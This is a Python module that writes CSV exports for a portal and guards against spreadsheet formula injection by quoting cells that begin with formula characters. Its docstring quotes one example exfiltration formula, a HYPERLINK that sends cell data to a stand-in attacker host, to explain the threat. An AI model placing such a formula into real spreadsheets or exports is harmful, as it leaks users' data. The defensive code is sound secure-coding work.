"""CSV the portal writes, safe to open in a spreadsheet. Every CSV export goes through
`csv_text`, so no cell a person typed (a name, feedback) can become a formula.

A spreadsheet reads a cell starting with =, +, - or @ (or a tab or carriage return, which some
strip first) as a formula, also after leading spaces, and a formula such as
`=HYPERLINK("http://evil.example/?"&A2, "Click")` can send the sheet's data away or run commands
(OWASP, "CSV Injection"). Such a cell is written with a single quote in front, which spreadsheets
take as "this is text" and do not show. Numbers are numbers: an int or float the portal computed
is written as it is, and so is text that is nothing but a plain number such as `-3` or `+4.5`,
which no spreadsheet can run; `-3+A1`, `-1)` or ` -3` are neutralised like any other.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# The first characters a spreadsheet (Excel, LibreOffice, Google Sheets) may read as a formula,
# with the full-width forms some of them also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")

Cell = str | int | float | None


def neutralised(cell: Cell) -> str | int | float:
    """The cell as it is safe to write: text that a spreadsheet would run gets a quote first."""
    if cell is None:
        return ""
    if isinstance(cell, int | float) and not isinstance(cell, bool):
        return cell
    text = str(cell)
    if PLAIN_NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A CSV document (header, then rows), every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralised(cell) for cell in header])
    writer.writerows([neutralised(cell) for cell in row] for row in rows)
    return out.getvalue()
